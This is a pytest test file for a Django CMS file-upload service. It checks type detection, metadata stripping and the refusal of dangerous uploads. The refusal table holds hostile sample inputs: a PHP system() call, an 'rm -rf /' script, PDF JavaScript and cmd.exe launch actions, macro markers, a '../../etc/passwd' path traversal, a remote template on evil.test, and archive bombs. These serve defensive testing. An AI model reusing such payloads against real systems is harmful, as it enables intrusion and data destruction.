"""What is taken in, and in which form it is kept."""

from __future__ import annotations

import hashlib
from io import BytesIO

import pytest
from django.utils import translation
from PIL import Image

from cms.files.choices import DOCUMENTS, FileKind, FileRules, FileState
from cms.files.errors import FileRefused, Refusal
from cms.files.models import PrivateFile
from tests.factories import hostile
from tests.factories.files import EVERYTHING, receive
from tests.factories.media import picture_bytes

pytestmark = pytest.mark.django_db


def bytes_of(file: PrivateFile) -> bytes:
    return file.path.read_bytes()


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (hostile.photograph("JPEG"), FileKind.JPEG),
        (hostile.photograph("PNG"), FileKind.PNG),
        (hostile.photograph("WEBP"), FileKind.WEBP),
        (hostile.moving_gif(), FileKind.PNG),
        (hostile.heic(), FileKind.JPEG),
        (hostile.pdf(), FileKind.PDF),
        (hostile.docx(), FileKind.DOCX),
        (hostile.odt(), FileKind.ODT),
        (hostile.old_word(), FileKind.DOC),
        (hostile.zip_of({"a.txt": "a"}), FileKind.ZIP),
        ("Καλημέρα, δήμε.\n".encode(), FileKind.TXT),
    ],
)
def test_a_file_is_what_its_bytes_say_and_its_name_follows(content, kind):
    file = receive(content, "Βεβαίωση.exe")
    assert (file.kind, file.name) == (kind, f"Βεβαίωση.{kind.value}")
    assert (file.state, file.scanner, file.next_scan_at) == (FileState.CLEAN, "demo", None)
    assert (file.size, file.sha256) == (len(bytes_of(file)), hashlib.sha256(bytes_of(file)).hexdigest())


@pytest.mark.parametrize(
    "content", [hostile.photograph(k) for k in ("JPEG", "PNG", "WEBP")] + [hostile.heic()]
)
def test_a_picture_forgets_where_it_was_taken_and_stands_upright(content):
    assert hostile.TELEPHONE.encode() in content
    file = receive(content)
    assert hostile.TELEPHONE.encode() not in bytes_of(file)
    with Image.open(BytesIO(bytes_of(file))) as picture:
        assert dict(picture.getexif()) == {}
        assert picture.height > picture.width


def test_a_telephones_picture_keeps_its_colours():
    with Image.open(BytesIO(bytes_of(receive(hostile.heic())))) as picture:
        colours = [picture.getpixel(spot) for spot in ((24, 12), (24, 50))]
    assert all(abs(a - b) < 12 for a, b in zip(colours[0], (0x0B, 0x4A, 0x6F), strict=True)) or all(
        abs(a - b) < 12 for a, b in zip(colours[1], (0x0B, 0x4A, 0x6F), strict=True)
    )


def test_nothing_hides_in_or_behind_a_picture():
    content = bytes_of(receive(hostile.jpeg_and_page()))
    assert b"script" not in content
    assert content.endswith(b"\xff\xd9")


def test_a_large_picture_is_kept_at_a_bearable_size():
    file = receive(picture_bytes(size=(3000, 300)), rules=FileRules(longest_side=1000))
    with Image.open(file.path) as picture:
        assert picture.size == (1000, 100)


def test_a_greek_text_of_an_old_program_becomes_utf_8():
    file = receive("Οδός Ελαιών 5".encode("windows-1253"), "οδός.txt")
    assert bytes_of(file).decode() == "Οδός Ελαιών 5"


def test_a_table_is_told_by_its_name():
    assert receive(b"a;b\n1;2\n", "table.CSV").name == "table.csv"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", Refusal.EMPTY),
        (hostile.SVG, Refusal.KIND),
        (hostile.HTML, Refusal.KIND),
        (b"\xef\xbb\xbf  \n<?php system('id');", Refusal.KIND),
        (b"#!/bin/sh\nrm -rf /\n", Refusal.KIND),
        (b"MZ\x90\0\x03\0\0\0", Refusal.KIND),
        (bytes(range(256)) * 10, Refusal.KIND),
        (b"GIF89a" + hostile.zip_of({"META-INF/MANIFEST.MF": "x"}), Refusal.DAMAGED),
        (picture_bytes()[:-200], Refusal.DAMAGED),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 40, Refusal.DAMAGED),
        (hostile.png_of(10_000, 10_000), Refusal.PICTURE_TOO_LARGE),
        (hostile.png_of(30_000, 30_000), Refusal.PICTURE_TOO_LARGE),
        (b"GIF89a;" + hostile.pdf(), Refusal.DAMAGED),
        (hostile.pdf()[:-10], Refusal.DAMAGED),
        (hostile.pdf(trailer=b"/Encrypt 9 0 R"), Refusal.LOCKED),
        (hostile.pdf(b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), Refusal.ACTIVE),
        (hostile.pdf(b"3 0 obj<</S /J#61vaScr#69pt /JS (x)>>endobj"), Refusal.ACTIVE),
        (hostile.pdf(b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj"), Refusal.ACTIVE),
        (hostile.pdf_with_packed_script(), Refusal.ACTIVE),
        (hostile.docx({"word/vbaProject.bin": b"x"}), Refusal.MACROS),
        (
            hostile.docx(types=hostile.CONTENT_TYPES.replace("document.main", "document.macroEnabled.main")),
            Refusal.MACROS,
        ),
        (hostile.odt({"Basic/Standard/Module1.xml": "x"}), Refusal.MACROS),
        (hostile.old_word("Macros", "VBA", "_VBA_PROJECT"), Refusal.MACROS),
        (hostile.old_word("EncryptedPackage"), Refusal.LOCKED),
        (hostile.docx({"../../etc/passwd": "x"}), Refusal.DAMAGED),
        (hostile.docx() + b"<script>", Refusal.DAMAGED),
        (hostile.docx()[:-4], Refusal.DAMAGED),
        (hostile.docx_bomb(), Refusal.UNPACKS_TOO_LARGE),
        (
            hostile.docx(
                {
                    "word/_rels/settings.xml.rels": '<Relationship Id="r" Type="http://schemas.openxmlformats.org/'
                    'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/>'
                }
            ),
            Refusal.ACTIVE,
        ),
        (hostile.docx({"word/_rels/a.rels": "<!DOCTYPE x [<!ENTITY e 'External'>]><x/>"}), Refusal.ACTIVE),
        (hostile.docx({"word/_rels/a.rels": "<Relationship " * 60_000}), None),
        (hostile.pdf_of_many_streams(), Refusal.UNPACKS_TOO_LARGE),
        (hostile.EICAR, Refusal.INFECTED),
        (hostile.docx({"word/embeddings/a.bin": hostile.EICAR}), Refusal.INFECTED),
        (hostile.zip_of({"a.com": hostile.EICAR}), Refusal.INFECTED),
    ],
)
def test_a_hostile_or_broken_file_is_refused_with_its_reason(content, reason):
    if reason is None:
        assert receive(content).kind == FileKind.DOCX, "and takes no time"
        return
    with pytest.raises(FileRefused) as refused:
        receive(content, "photo.jpg")
    assert refused.value.code is reason
    assert str(refused.value)
    assert PrivateFile.objects.count() == 0


def test_a_script_is_taken_where_the_form_wants_fillable_forms():
    content = hostile.pdf(b"3 0 obj<</S/JavaScript/JS(AFNumber_Format)>>endobj")
    assert receive(content, rules=FileRules(active_pdfs=True)).kind == FileKind.PDF


@pytest.mark.parametrize("content", [hostile.zip_of({"a.txt": "a"}), hostile.moving_gif(), b"plain text"])
def test_a_kind_that_was_not_asked_for_is_refused_and_the_wanted_ones_are_named(content):
    with pytest.raises(FileRefused) as refused:
        receive(content, rules=FileRules(kinds=DOCUMENTS))
    with translation.override("en"):
        assert refused.value.sentence == (
            "This kind of file is not taken here. You can send: OpenDocument text, PDF document, Word document."
        )


def test_the_limit_holds_while_the_file_is_read_whatever_the_request_says():
    class Endless:
        name, size, asked = "photo.jpg", 10, 0

        def seek(self, _place):
            pass

        def chunks(self, size):
            while True:
                self.asked += 1
                yield b"x" * size

    endless = Endless()
    from cms.files.actions import receive_file
    from tests.factories.files import ANNA

    with pytest.raises(FileRefused) as refused:
        receive_file(endless, purpose="tests", rules=FileRules(most_bytes=1_000_000), by=ANNA)
    assert refused.value.code is Refusal.TOO_LARGE
    assert endless.asked == 16
    with translation.override("en"):
        assert "976.6" in refused.value.sentence


def test_a_person_cannot_fill_the_disk_with_files_that_no_form_takes():
    rules = FileRules(most_waiting=2)
    receive(rules=rules)
    receive(rules=rules)
    with pytest.raises(FileRefused) as refused:
        receive(rules=rules)
    assert refused.value.code is Refusal.TOO_MANY


def test_what_an_input_accepts_names_every_ending_a_telephone_uses():
    assert (
        FileRules(kinds=frozenset({FileKind.JPEG, FileKind.HEIC})).accept
        == ".heic,.jpg,.jpeg,.jpe,.jfif,.heif,.hif"
    )
    assert ".docx" in EVERYTHING.accept
